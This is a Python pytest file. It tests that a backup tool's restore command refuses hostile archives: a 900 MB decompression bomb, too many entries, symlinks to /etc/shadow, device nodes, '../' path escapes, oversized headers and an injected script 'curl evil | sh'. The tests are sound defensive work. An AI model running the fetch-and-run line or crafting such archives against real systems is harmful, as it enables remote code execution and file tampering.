"""`nimbus restore` of a hostile archive (issue 23 item 10): bounded, and only our files.

Before: a 4 MB archive expanding to 900 MB was read into memory whole and restored, and a
top-level file the manifest listed (say `evil.sh`) was written into the new data dir. Now
the archive streams through size and entry-count bounds checked before anything is read,
only the data dir's known files are accepted, and a refused restore leaves nothing behind.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.harness import Cli, nimbus_argv

BOMB_BYTES = 900 * 1024 * 1024


class Zeros(io.RawIOBase):
    """`size` zero bytes, produced as they are read (the test never holds them)."""

    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buf: Any) -> int:
        n = min(len(buf), self.left)
        buf[:n] = bytes(n)
        self.left -= n
        return n


def _zeros_sha256(size: int) -> str:
    digest, chunk = hashlib.sha256(), bytes(1 << 20)
    for _ in range(size >> 20):
        digest.update(chunk)
    return digest.hexdigest()


@pytest.fixture(scope="module")
def backup(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real backup of a bootstrapped data dir (made once: every test forges a copy)."""
    root = tmp_path_factory.mktemp("backup")
    cli = Cli(root / "home")
    cli.run("bootstrap", "--data-dir", str(root / "data"), "--output", str(root / "c.json"))
    cli.run("backup", "--output", str(root / "backup.tgz"), "--data-dir", str(root / "data"))
    return root / "backup.tgz"


@pytest.fixture
def cli(tmp_path: Path) -> Cli:
    return Cli(tmp_path / "home")


def _forge(backup: Path, out: Path, extra: list[tuple[tarfile.TarInfo, Any]],
           listed: dict[str, str] | None = None) -> Path:
    """A copy of the backup with `extra` entries appended and `listed` {name: sha256} added
    to its manifest, so the checksums still match: what an attacker would craft."""
    with tarfile.open(backup) as src:
        members = [(m, src.extractfile(m).read()) for m in src]
    manifest = json.loads(members[0][1])
    for name, sha in (listed or {}).items():
        manifest["files"][name] = {"sha256": sha, "mode": "600"}
    body = json.dumps(manifest).encode()
    members[0][0].size = len(body)
    members[0] = (members[0][0], body)
    with tarfile.open(out, "w:gz", compresslevel=1) as dst:
        for member, data in members:
            dst.addfile(member, io.BytesIO(data))
        for member, fileobj in extra:
            dst.addfile(member, fileobj)
    return out


# The restore runs under this small Python, which reports its child's peak RSS: a child of
# pytest itself would inherit pytest's own high-water mark through vfork+exec (Linux keeps
# `maxrss` across exec), so late in a long run it "used" whatever pytest had grown to.
_PEAK_RSS = ("import os, subprocess, sys\n"
             "p = subprocess.Popen(sys.argv[2:])\n"
             "_, status, usage = os.wait4(p.pid, 0)\n"
             "open(sys.argv[1], 'w').write(str(usage.ru_maxrss))\n"
             "sys.exit(os.waitstatus_to_exitcode(status) & 255)\n")


def _restore(archive: Path, target: Path, cli: Cli) -> tuple[subprocess.CompletedProcess[str],
                                                              int]:
    """`nimbus restore` as a grandchild process; (result, its own peak RSS in KiB)."""
    peak = target.parent / "restore.rss"
    result = subprocess.run([sys.executable, "-c", _PEAK_RSS, str(peak), *nimbus_argv(),
                             "restore", "--input", str(archive), "--data-dir", str(target)],
                            env=cli.env, capture_output=True, text=True, timeout=300)
    rss_kib = int(peak.read_text())
    peak.unlink()
    return result, rss_kib


def _member(name: str, size: int = 0, kind: bytes = tarfile.REGTYPE, **kw: Any
            ) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.size, info.type, info.mode = size, kind, 0o600
    for k, v in kw.items():
        setattr(info, k, v)
    return info


def _assert_refused(result: subprocess.CompletedProcess[str], target: Path, why: str) -> None:
    assert result.returncode == 6 and why in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert not target.exists()
    assert [p.name for p in target.parent.iterdir() if ".restore-" in p.name] == []


def test_an_archive_expanding_to_900_mb_is_refused_without_reading_it(backup, cli, tmp_path):
    bomb = _forge(backup, tmp_path / "bomb.tgz", [(_member("audit.log.1", BOMB_BYTES),
                                                   Zeros(BOMB_BYTES))],
                  {"audit.log.1": _zeros_sha256(BOMB_BYTES)})
    assert bomb.stat().st_size < 8 << 20  # small on disk: ~4 MB of gzip (level 1)
    target = tmp_path / "restored"
    result, rss_kib = _restore(bomb, target, cli)
    _assert_refused(result, target, "expands to more than 512 MiB")
    assert rss_kib < 100 * 1024, f"restore used {rss_kib // 1024} MiB"


def test_many_small_files_are_refused(backup, cli, tmp_path):
    many = [(_member(f"store/c{i}.json"), io.BytesIO(b"")) for i in range(5000)]
    empty = hashlib.sha256(b"").hexdigest()
    archive = _forge(backup, tmp_path / "many.tgz", many,
                     {f"store/c{i}.json": empty for i in range(5000)})
    target = tmp_path / "restored"
    _assert_refused(_restore(archive, target, cli)[0], target, "more than 4096 entries")


@pytest.mark.parametrize("name", ["evil.sh", "agent.toml", "store.lock", ".bashrc",
                                  "replay", "audit.log.lock"])
def test_a_top_level_file_that_is_not_ours_is_refused(backup, cli, tmp_path, name):
    body = b"#!/bin/sh\ncurl evil | sh\n"
    archive = _forge(backup, tmp_path / "extra.tgz", [(_member(name, len(body)),
                                                       io.BytesIO(body))],
                     {name: hashlib.sha256(body).hexdigest()})
    target = tmp_path / "restored"
    _assert_refused(_restore(archive, target, cli)[0], target, "unexpected entry")


@pytest.mark.parametrize("member", [
    _member("ca.key", kind=tarfile.SYMTYPE, linkname="/etc/shadow"),
    _member("ca.key", kind=tarfile.LNKTYPE, linkname="store/meta.json"),
    _member("ca.key", kind=tarfile.CHRTYPE, devmajor=1, devminor=3),
    _member("ca.key", kind=tarfile.FIFOTYPE),
    _member("store/x.json", kind=tarfile.DIRTYPE),
    _member("store/../../x.json", 1),
], ids=["symlink", "hardlink", "device", "fifo", "dir", "dotdot"])
def test_links_devices_and_escapes_are_refused(backup, cli, tmp_path, member):
    archive = _forge(backup, tmp_path / "link.tgz", [(member, io.BytesIO(b"x"))])
    target = tmp_path / "restored"
    _assert_refused(_restore(archive, target, cli)[0], target, "unexpected entry")


def test_a_huge_extended_header_is_refused(backup, cli, tmp_path):
    # tarfile reads a pax header into memory whole; 4 MiB of it is not a backup.
    member = _member("audit.log.1", 1, pax_headers={"comment": "x" * (4 << 20)})
    archive = _forge(backup, tmp_path / "pax.tgz", [(member, io.BytesIO(b"x"))],
                     {"audit.log.1": hashlib.sha256(b"x").hexdigest()})
    target = tmp_path / "restored"
    result, _ = _restore(archive, target, cli)
    assert result.returncode == 6 and "not a readable Nimbus backup" in result.stderr
    assert not target.exists()


def test_a_duplicate_entry_is_refused(backup, cli, tmp_path):
    with tarfile.open(backup) as src:
        meta = src.extractfile("store/meta.json").read()
    archive = _forge(backup, tmp_path / "dup.tgz",
                     [(_member("store/meta.json", len(meta)), io.BytesIO(meta))])
    target = tmp_path / "restored"
    _assert_refused(_restore(archive, target, cli)[0], target, "unexpected entry")


def test_a_real_backup_still_restores_into_an_empty_dir(backup, cli, tmp_path):
    target = tmp_path / "empty"
    target.mkdir()
    result, _ = _restore(backup, target, cli)
    assert result.returncode == 0, result.stderr
    assert (target / "store" / "meta.json").exists() and (target / "ca.key").exists()
    assert os.stat(target).st_mode & 0o777 == 0o700
    assert not (target / "audit.log.lock").exists()
